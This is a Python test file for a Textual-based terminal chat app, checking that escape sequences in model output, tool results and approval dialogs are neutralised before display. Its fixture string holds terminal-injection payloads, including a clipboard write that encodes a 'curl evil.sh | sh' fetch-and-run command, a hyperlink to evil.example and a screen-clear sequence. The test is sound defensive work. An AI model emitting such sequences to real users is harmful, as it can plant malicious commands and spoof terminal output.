"""What the model says cannot drive the terminal through the TUI.

The frame is what Textual's `App._display` writes to the terminal: the compositor's full update
rendered to a string (headless pilot runs skip only that last write).
"""

from __future__ import annotations

import pytest
from fake_ollama import Turn, call
from pilot import ready, say, wait_until
from textual.app import App, ComposeResult
from textual.widgets import Markdown, Static

from gemloom.terminal import visible
from gemloom.workflows.tui.approval import ApprovalScreen

EVIL = (
    "clip\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07 link\x1b]8;;https://evil.example/\x1b\\here"
    "\x1b]8;;\x1b\\ clear\x1b[2J\x1b[H c1\x9b31m osc\x9d0;title\x9c end"
)
PAYLOADS = ["\x1b]52;", "\x1b]8;;https://evil", "\x1b[2J", "\x9b", "\x9d"]


def frame(app: App) -> str:
    """Everything Textual would send to the terminal to draw the current screen."""
    return app.screen._compositor.render_update(full=True).render_segments(app.console)


def injected(app: App) -> list[str]:
    """The attack sequences that would reach the terminal as they are."""
    drawn = frame(app)
    return [p for p in PAYLOADS if p in drawn]


class Plain(App):
    """Textual's own widgets, given model text as it is or through `visible`."""

    def __init__(self, text: str):
        super().__init__()
        self.text = text

    def compose(self) -> ComposeResult:
        yield Static(self.text, markup=False)
        yield Markdown(f"answer {self.text}\n\n`{self.text}`")


@pytest.mark.parametrize("clean", [False, True], ids=["raw", "visible"])
async def test_textual_widgets_pass_escapes_through_unless_made_visible(clean: bool) -> None:
    app = Plain(visible(EVIL) if clean else EVIL)
    async with app.run_test(size=(120, 20)) as pilot:
        await pilot.pause()
        assert injected(app) == ([] if clean else PAYLOADS)
        if clean:
            assert "clip␛]52;c;Y3VybCBldmlsLnNoIHwgc2gK␇" in frame(app)


async def test_answers_thinking_and_tool_output_reach_the_terminal_harmless(
    make_app, fake_ollama, workspace
) -> None:
    (workspace / "evil.txt").write_text(EVIL)
    fake_ollama.script(
        Turn(tool_calls=[call("read_file", path="evil.txt")]),
        Turn(tool_calls=[call(f"tool{EVIL}")]),
        Turn(EVIL, thinking=EVIL),
    )
    app = make_app()
    async with app.run_test(size=(160, 50)) as pilot:
        await ready(pilot)
        await say(pilot, "read evil.txt")
        await wait_until(pilot, lambda: not app.busy and not app.workers._workers)
        assert "clip" in frame(app)  # the answer is on screen
        assert injected(app) == []


async def test_the_approval_dialog_shows_arguments_harmless(make_app, fake_ollama) -> None:
    fake_ollama.script(Turn(tool_calls=[call("write_text_file", path="n.txt", content=EVIL)]))
    app = make_app()
    async with app.run_test(size=(160, 50)) as pilot:
        await ready(pilot)
        await say(pilot, "write it")
        await wait_until(pilot, lambda: isinstance(app.screen, ApprovalScreen))
        await pilot.pause()
        assert "clip" in frame(app)
        assert injected(app) == []


async def test_a_reopened_session_shows_its_history_harmless(make_app, fake_ollama, workspace):
    (workspace / "evil.txt").write_text(EVIL)
    fake_ollama.script(Turn(tool_calls=[call("read_file", path="evil.txt")]), Turn(EVIL))
    async with make_app().run_test(size=(160, 50)) as pilot:
        await ready(pilot)
        await say(pilot, f"title {EVIL}")
        await wait_until(pilot, lambda: not pilot.app.busy and not pilot.app.workers._workers)
    app = make_app()
    async with app.run_test(size=(160, 50)) as pilot:
        await ready(pilot)
        await wait_until(pilot, lambda: len(app.query_one("#sessions").children) == 1)
        app.query_one("#sessions").focus()
        await pilot.press("enter")
        await wait_until(pilot, lambda: "end" in frame(app) and "evil.txt" in frame(app))
        assert injected(app) == []
